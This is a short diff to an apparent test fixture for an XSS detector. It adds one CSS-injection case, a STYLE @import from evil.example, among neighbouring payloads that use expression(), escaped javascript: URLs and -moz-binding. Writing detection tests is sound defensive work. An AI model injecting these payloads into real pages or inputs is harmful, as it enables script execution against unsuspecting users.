@@ -101,6 +101,7 @@ export const XSS_CASES: readonly XssCase[] = [
   { input: '<div style="x:exp/**/ression(alert(1))">', expect: 'xss/css-injection' },
   { input: '<div style="background-image:\\75\\72\\6c(javascript:alert(1))">', expect: 'xss/css-injection' },
   { input: "<style>@import 'javascript:alert(1)';</style>", expect: 'xss/css-injection' },
+  { input: '<STYLE>@import"http://evil.example/x.css";</STYLE>', expect: 'xss/css-injection', atLeast: 0.9 },
   { input: '<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>', expect: 'xss/css-injection' },
   { input: 'color:red;background:url(javascript:alert(1))', expect: 'xss/css-injection' },
   { input: 'width:expression(alert(1))', expect: 'xss/css-injection' },
